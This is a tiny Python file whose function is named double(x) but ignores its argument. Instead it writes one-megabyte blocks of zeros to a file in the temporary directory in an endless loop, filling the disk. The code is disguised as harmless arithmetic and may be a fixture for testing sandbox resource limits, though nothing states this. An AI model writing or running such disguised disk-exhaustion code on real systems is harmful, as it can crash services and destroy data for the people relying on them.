import os


def double(x):
    with open(os.environ["TMPDIR"] + "/huge", "wb") as file:
        while True:
            file.write(bytes(1 << 20))
